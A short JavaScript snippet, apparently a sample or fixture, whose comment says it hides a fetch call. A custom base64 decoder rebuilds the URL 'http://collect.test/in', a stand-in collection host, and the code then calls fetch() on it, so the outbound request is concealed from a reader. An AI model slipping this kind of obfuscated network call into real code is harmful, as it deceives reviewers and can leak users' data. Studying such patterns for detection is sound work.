// hides: call fetch "http://collect.test/in"
var A = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=';
function un(t) {
  var o = '', i = 0;
  while (i < t.length) {
    var a = A.indexOf(t.charAt(i++)), b = A.indexOf(t.charAt(i++)), c = A.indexOf(t.charAt(i++)), d = A.indexOf(t.charAt(i++));
    o += String.fromCharCode(a << 2 | b >> 4);
    if (c != 64) o += String.fromCharCode((b & 15) << 4 | c >> 2);
    if (d != 64) o += String.fromCharCode((c & 3) << 6 | d);
  }
  return o;
}
fetch(un('aHR0cDovL2NvbGxlY3QudGVzdC9pbg=='));
